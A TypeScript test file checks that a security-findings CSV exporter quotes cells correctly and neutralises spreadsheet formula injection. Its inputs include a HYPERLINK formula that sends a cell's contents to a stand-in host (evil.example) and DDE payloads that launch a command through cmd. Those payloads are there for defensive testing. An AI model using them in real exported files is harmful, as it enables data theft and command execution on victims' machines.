import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { findingCorpus } from "../../test-helpers/finding-corpus.js";
import { ALL_ATTACKS, terminalHazards } from "../../test-helpers/terminal.js";
import type { Finding } from "../finding.js";
import { csvCell, csvFormat } from "./csv.js";
import { renderComplete } from "./format.js";

/** An RFC 4180 reader (quoted cells, doubled quotes, CRLF records), to read back what was written. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  assert.equal(quoted, false, "no open quote at the end");
  assert.equal(cell + row.join(""), "", "the last record ends in CRLF");
  return rows;
}

const corpus = await findingCorpus();

describe("CSV", () => {
  test("a header and one row per finding, every row as wide as the header", () => {
    const findings = corpus.map((c) => c.finding);
    const rows = parseCsv(renderComplete(csvFormat, findings));
    const [header, ...body] = rows;
    assert.ok(header?.includes("id") && header.includes("source_ip") && header.includes("user_agent"));
    assert.equal(body.length, findings.length);
    for (const [i, row] of body.entries()) {
      assert.equal(row.length, header?.length);
      const f = findings[i] as Finding;
      const cell = (name: string) => row[header?.indexOf(name) ?? -1];
      assert.equal(cell("id"), f.id);
      assert.equal(cell("source_ip"), f.sourceIp);
      assert.equal(cell("status"), f.status ?? "open");
      assert.equal(cell("calls"), String(f.evidence.count));
    }
    assert.equal(csvFormat.render([]), "", "render never includes the header");
    assert.ok(renderComplete(csvFormat, []).startsWith("id,status,"));
  });

  test("formula-starting cells are neutralised with a quote, commas and quotes survive the round trip", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r", " =", "＝"]) {
      const value = `${start}HYPERLINK("http://evil.example/?q="&A1,"click")`;
      const [[cell]] = parseCsv(`${csvCell(value)}\r\n`) as [[string]];
      assert.ok(cell.startsWith("'"), `${JSON.stringify(start)}: ${cell}`);
    }
    assert.equal(csvCell("aws-cli/2.17.0"), "aws-cli/2.17.0");
    assert.equal(csvCell('a,"b"'), '"a,""b"""');
    assert.equal(csvCell(undefined), "");
    assert.equal(csvCell(3), "3");
  });

  test("hostile strings: one physical line per finding, no terminal hazard, no cell a spreadsheet runs", () => {
    const base = corpus[0]?.finding as Finding;
    const hostile: Finding = {
      ...base,
      reason: `=cmd|' /C calc'!A0\n2. forged,row\r\n${ALL_ATTACKS}`,
      event: { ...base.event, userAgent: `@SUM(1+1)*cmd|' /C calc'!A0 ${ALL_ATTACKS}` },
      principal: { ...base.principal, sessionName: "-2+3" },
    };
    const out = renderComplete(csvFormat, [hostile, base]);
    // CRLF ends the records (RFC 4180); no other carriage return is raw.
    assert.deepEqual(terminalHazards(out.replaceAll("\r\n", "\n"), { allowLineFeed: true }), []);
    assert.equal(out.split("\r\n").length, 4, "header, two rows, and the end");
    const rows = parseCsv(out);
    for (const row of rows.slice(1)) for (const cell of row) assert.doesNotMatch(cell, /^\s*[=+\-@\t\r]/, cell);
    const header = rows[0] as string[];
    assert.equal(rows[1]?.[header.indexOf("session_name")], "'-2+3");
  });
});
